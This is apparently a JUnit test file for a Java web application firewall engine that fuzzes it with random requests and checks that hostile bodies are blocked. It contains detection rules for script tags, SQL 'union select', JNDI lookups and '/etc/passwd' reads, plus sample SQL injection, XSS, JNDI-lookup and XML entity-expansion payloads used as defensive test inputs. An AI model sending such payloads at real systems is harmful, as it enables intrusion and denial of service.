package dev.bulwark.waf;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Hostile and random input through whole transactions: never an exception, always a verdict. */
class EngineRobustnessTest {

    private static final String RULES = """
            rules:
              - {id: 1, targets: [ARGS, ARGS_NAMES, REQUEST_COOKIES, "REQUEST_HEADERS:User-Agent", XML, FILES], transforms: [urlDecodeRecursive, htmlEntityDecode, jsDecode, lowercase, compressWhitespace], operator: "@rx <script|union\\\\s+select|\\\\$\\\\{jndi:"}
              - {id: 2, targets: [REQUEST_FILENAME], transforms: [urlDecodeUni, normalizePath], operator: "@contains /etc/passwd"}
              - {id: 3, targets: [REQBODY_ERROR], operator: "@eq 1", action: deny, status: 400}
            """;

    private final Waf waf = Waf.builder().serviceLoader(false).rules("t", RULES).build();

    private static final String[] CONTENT_TYPES = {
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "multipart/form-data",
        "application/json", "text/xml", "application/soap+xml", "text/plain", "", "application/json; charset=utf-16",
    };

    @Test
    void randomInputNeverThrows() {
        Random rnd = new Random(42);
        for (int i = 0; i < 3000; i++) {
            try (Transaction tx = waf.newTransaction()) {
                tx.connection(randomText(rnd, 20), rnd.nextInt(70000), null, -1);
                tx.requestLine(randomText(rnd, 8), "/" + randomText(rnd, 200), randomText(rnd, 10));
                int headers = rnd.nextInt(6);
                for (int h = 0; h < headers; h++) {
                    tx.requestHeader(randomText(rnd, 12), randomText(rnd, 100));
                }
                tx.requestHeader("Content-Type", CONTENT_TYPES[rnd.nextInt(CONTENT_TYPES.length)]);
                tx.requestHeader("Cookie", randomText(rnd, 60));
                Verdict v = tx.processRequestHeaders();
                byte[] body = new byte[rnd.nextInt(600)];
                rnd.nextBytes(body);
                if (rnd.nextBoolean()) {
                    body = ("--xyz\r\nContent-Disposition: form-data; name=\"a\"; filename=\"" + randomText(rnd, 10)
                            + "\"\r\n\r\n" + randomText(rnd, 50) + "\r\n--xyz--").getBytes(StandardCharsets.ISO_8859_1);
                }
                v = tx.requestBody(body, 0, body.length);
                v = tx.processRequestBody();
                assertNotNull(v);
                v = tx.processResponseHeaders(rnd.nextInt(600), List.of());
                tx.responseBody(body, 0, body.length);
                assertNotNull(tx.processResponseBody());
            }
        }
    }

    @Test
    void hostileStructuredBodiesGiveCleanVerdicts() {
        String deepJson = "[".repeat(100_000);
        Verdict v = post("application/json", deepJson);
        assertTrue(v.interrupts(), "too deep JSON is rejected: " + v);
        String laughs = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><l>&c;&c;&c;&c;&c;&c;</l>";
        v = post("application/xml", laughs);
        assertNotNull(v);
        Verdict.Deny d = assertInstanceOf(Verdict.Deny.class, post("application/json", "{\"a\": "));
        assertEquals(400, d.status());
    }

    @Test
    void attacksInStructuredBodiesAreSeen() {
        assertTrue(post("application/json", "{\"user\": {\"name\": \"x' UNION  SELECT password\"}}").interrupts());
        assertTrue(post("text/xml", "<a><b attr=\"${jndi:ldap://x}\">ok</b></a>").interrupts());
        assertTrue(post("multipart/form-data; boundary=xyz",
                "--xyz\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n<script>alert(1)</script>\r\n--xyz--\r\n").interrupts());
        assertFalse(post("application/json", "{\"user\": {\"name\": \"O'Brien\", \"tags\": [1, 2]}}").interrupts());
    }

    @Test
    void valuesPastTheCacheBudgetAreStillInspected() {
        Waf big = Waf.builder().serviceLoader(false).rules("t", RULES)
                .limits(Limits.defaults().withMaxRequestBodyBytes(32L << 20).withMaxInspectedBodyBytes(24 << 20)).build();
        String filler = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(90_000); // ~5 M chars
        try (Transaction tx = big.newTransaction()) {
            tx.requestLine("POST", "/upload", "HTTP/1.1");
            tx.requestHeader("Content-Type", "application/x-www-form-urlencoded");
            tx.processRequestHeaders();
            byte[] b = ("a=" + filler + "&b=" + filler + "x%27%20UNION%20SELECT%20pwd").getBytes(StandardCharsets.UTF_8);
            tx.requestBody(b, 0, b.length);
            Verdict v = tx.processRequestBody();
            assertTrue(v.interrupts(), "attack after two 5 M-char values");
            assertEquals("ARGS:b", v.matches().get(0).variable());
        }
    }

    @Test
    void concurrentTransactionsShareOneWaf() throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<Boolean>> results = new ArrayList<>();
            for (int i = 0; i < 400; i++) {
                boolean attack = i % 2 == 0;
                results.add(pool.submit(() -> {
                    try (Transaction tx = waf.newTransaction()) {
                        tx.requestLine("GET", attack ? "/?q=%3Cscript%3E" : "/?q=hello", "HTTP/1.1");
                        return tx.processRequestHeaders().interrupts() || tx.processRequestBody().interrupts();
                    }
                }));
            }
            for (int i = 0; i < results.size(); i++) {
                assertEquals(i % 2 == 0, results.get(i).get(10, TimeUnit.SECONDS), "request " + i);
            }
        } finally {
            pool.shutdownNow();
        }
    }

    private Verdict post(String contentType, String body) {
        try (Transaction tx = waf.newTransaction()) {
            tx.requestLine("POST", "/api", "HTTP/1.1");
            tx.requestHeader("Content-Type", contentType);
            tx.processRequestHeaders();
            byte[] b = body.getBytes(StandardCharsets.UTF_8);
            Verdict v = tx.requestBody(b, 0, b.length);
            return v.interrupts() ? v : tx.processRequestBody();
        }
    }

    private static String randomText(Random rnd, int max) {
        int n = rnd.nextInt(max + 1);
        StringBuilder sb = new StringBuilder(n);
        String specials = "%&=;:/\\?#{}$<>'\"`\u0000\r\n +-*@!";
        for (int i = 0; i < n; i++) {
            int k = rnd.nextInt(10);
            if (k < 5) {
                sb.append((char) ('a' + rnd.nextInt(26)));
            } else if (k < 8) {
                sb.append(specials.charAt(rnd.nextInt(specials.length())));
            } else {
                sb.append((char) rnd.nextInt(0x3000));
            }
        }
        return sb.toString();
    }
}
